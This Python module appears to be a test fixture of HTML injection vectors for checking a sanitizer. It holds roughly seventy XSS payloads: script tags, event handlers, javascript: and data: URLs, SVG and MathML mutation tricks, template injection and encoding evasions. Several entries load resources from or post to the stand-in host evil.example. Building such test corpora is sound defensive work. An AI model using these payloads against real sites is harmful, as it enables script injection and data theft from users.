"""Markup by which a page could be made to run something, fetch something, or post something: one of
each way we know of."""

from __future__ import annotations

RUN = "window.pwned=(window.pwned||0)+1"
"""What every vector tries to run."""

BODIES = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src=https://evil.example/x.js></script><script>{RUN}",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img/src=`x`onerror={RUN}>",
    f"<img src=x:x onerror\n=\n'{RUN}'>",
    '<img src="https://evil.example/pixel.gif">',
    '<img srcset="https://evil.example/1x.gif 1x" src="">',
    (
        '<picture><source srcset="https://evil.example/p.gif">'
        '<img src="https://evil.example/q.gif"></picture>'
    ),
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{RUN}"><text x="20" y="20">go</text></a></svg>',
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    ),
    f'<math href="javascript:{RUN}">go</math>',
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<iframe src="https://evil.example/frame"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f'<embed src="javascript:{RUN}">',
    '<embed src="https://evil.example/e.swf">',
    f"<details open ontoggle={RUN}>x",
    f"<video><source onerror={RUN}></video>",
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.jpg" autoplay></video>',
    f"<audio src=x onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<marquee onstart={RUN}>x</marquee>",
    f'<div style="width:expression({RUN})">x</div>',
    '<div style="background:url(https://evil.example/bg.gif)">x</div>',
    '<p style="position:fixed;inset:0;z-index:9">over everything</p>',
    "<style>@import 'https://evil.example/s.css'; body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/l.css">',
    '<link rel="prefetch" href="https://evil.example/prefetch">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    '<base href="https://evil.example/">',
    (
        '<form action="https://evil.example/post"><input name=q>'
        f'<button formaction="javascript:{RUN}">go</button></form>'
    ),
    f'<a href="javascript:{RUN}" id="pw">go</a>',
    f'<a href="JaVaScRiPt:{RUN}">go</a>',
    f'<a href=" &#14; javascript:{RUN}">go</a>',
    f'<a href="java\tscript:{RUN}">go</a>',
    f'<a href="&#106;&#97;vascript:{RUN}">go</a>',
    f'<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">{RUN}</a>',
    f'<a href="vbscript:{RUN}">go</a>',
    '<a href="https://evil.example/" ping="https://evil.example/ping">go</a>',
    f'<a onmouseover="{RUN}" href="#">x</a>',
    f'"><script>{RUN}</script>',
    f"'-{RUN}-'",
    f"</title><script>{RUN}</script>",
    f"</textarea></style></noscript><script>{RUN}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f'<table background="javascript:{RUN}"><td background="https://evil.example/td.gif">x',
    f"<template><script>{RUN}</script></template>",
    f"<xss id=x tabindex=1 onfocus={RUN} autofocus>x</xss>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{ 7*7 }}{% for x in [1] %}{% endfor %}",
    f"<img src=x onerror\x00={RUN}>",
    f"<\x00script>{RUN}</script>",
    '<a id="main" name="location">clobber</a><form id="document"><input name="cookie"></form>',
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "\u202e<b>backwards</b>\u202c",
    f"<pre>{'x' * 300}</pre>",
    f"<table><tr>{'<td>a cell of many</td>' * 40}</tr></table>",
)

ADDRESSES = (
    f"javascript:{RUN}",
    f'https://shop.example/blogs/news/x" onclick="{RUN}',
    "data:text/html,<script>window.pwned=1</script>",
    "//evil.example/x",
)
